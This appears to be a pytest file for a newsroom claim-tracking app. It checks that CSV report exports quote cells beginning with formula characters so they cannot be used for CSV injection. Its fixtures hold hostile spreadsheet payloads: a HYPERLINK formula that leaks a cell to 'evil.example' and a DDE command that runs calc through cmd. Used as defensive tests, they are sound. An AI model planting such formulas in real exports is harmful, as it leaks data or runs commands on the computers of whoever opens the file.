"""Report exports never hand a spreadsheet a live formula: a cell of text that begins
with = + - @, a tab or a carriage return goes out with a leading single quote (OWASP's
rule for CSV injection), in the web downloads and in `claimtrack report --format csv`
alike, because both use the one CSV writer."""

from __future__ import annotations

import csv
import io

import pytest

from claimtrack.cli import main
from claimtrack.db import session_scope
from claimtrack.models import Claim
from claimtrack.services.accounts.actors import Actor
from claimtrack.services.reports.csv_export import safe_cell, write_csv
from claimtrack.services.review import claims as claim_service

from .newsroom import newsroom  # noqa: F401 - fixture

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1 555 0100 is the number the council gave for complaints"
MINUS = "-2+3 said the treasurer about the budget gap"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(engine, newsroom):  # noqa: F811
    """Claim texts and speakers that a spreadsheet would run as formulas."""
    rita = Actor(newsroom.users["reviewer"], "reviewer", "reviewer")
    first, second, third = newsroom.claims[:3]
    with session_scope(engine) as s:
        for claim, text in ((first, LINK), (second, PLUS), (third, MINUS)):
            row = s.get(Claim, claim.id)
            claim_service.edit_text(
                s, rita, row.id, version=row.version, text=text, start=row.start_offset, end=row.end_offset
            )
        row = s.get(Claim, first.id)
        claim_service.set_speaker(s, rita, row.id, version=row.version, name=CMD)
    return newsroom


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(text: str, payloads) -> None:
    cells = _cells(text)
    for payload in payloads:
        assert "'" + payload in cells, payload
        assert payload not in cells, payload
    assert not [c for c in cells if c.startswith(DANGEROUS)]


def test_article_report_download_neutralises_formulas(hostile):
    response = hostile.clients["viewer"].get(f"/reports/articles/{hostile.article}?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    _assert_neutralised(response.get_data(as_text=True), (LINK, CMD, PLUS, MINUS))


def test_claimants_report_download_neutralises_formulas(hostile):
    response = hostile.clients["viewer"].get("/reports/claimants?format=csv")
    assert response.status_code == 200
    _assert_neutralised(response.get_data(as_text=True), (CMD,))


def test_cli_report_neutralises_formulas(hostile, cli_env, capsys):
    try:
        main(["report", "article", "--article", str(hostile.article), "--format", "csv"])
    except SystemExit as done:
        assert not done.code
    _assert_neutralised(capsys.readouterr().out, (LINK, CMD, PLUS, MINUS))


def test_json_export_keeps_the_text_as_typed(hostile):
    rows = hostile.clients["viewer"].get(f"/reports/articles/{hostile.article}?format=json").get_json()["rows"]
    assert {r["claim"] for r in rows} >= {LINK, PLUS, MINUS} and CMD in {r["speaker"] for r in rows}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=", "\tindented"])
def test_each_formula_start_is_quoted(value):
    assert safe_cell(value) == "'" + value
    assert _cells(write_csv(["c"], [[value]]))[1] == "'" + value


@pytest.mark.parametrize("value", ["The mayor said 300", "", " =not first", "'quoted", "1-2", "a@b.example"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers():
    assert [safe_cell(v) for v in (-3, 2.5, 0, None)] == [-3, 2.5, 0, None]
    assert write_csv(["n"], [[-3]]) == "n\r\n-3\r\n"


def test_a_carriage_return_inside_a_cell_cannot_split_the_row():
    text = write_csv(["a", "b"], [["one\rtwo", "=x"], ["three\nfour", "ok"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], ["one\rtwo", "'=x"], ["three\nfour", "ok"]]
